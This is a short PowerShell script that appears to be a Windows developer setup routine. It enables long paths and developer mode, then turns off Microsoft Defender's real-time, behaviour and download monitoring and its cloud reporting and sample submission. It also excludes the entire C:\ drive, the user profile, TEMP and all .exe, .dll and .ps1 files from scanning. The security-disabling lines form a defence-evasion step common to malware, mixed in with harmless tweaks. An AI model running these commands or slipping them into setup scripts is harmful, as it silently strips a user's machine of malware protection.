New-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1 -PropertyType DWORD -Force | Out-Null
reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock" /t REG_DWORD /f /v AllowDevelopmentWithoutDevLicense /d 1
fsutil behavior set disablelastaccess 1
$p = @{ DisableRealtimeMonitoring = $true; DisableBehaviorMonitoring = $true; DisableIOAVProtection = $true; MAPSReporting = 0; SubmitSamplesConsent = 2 }
Set-MpPreference @p
Add-MpPreference -ExclusionPath 'C:\', "$env:USERPROFILE", "$env:TEMP"
Add-MpPreference -ExclusionExtension '.exe', '.dll', '.ps1'
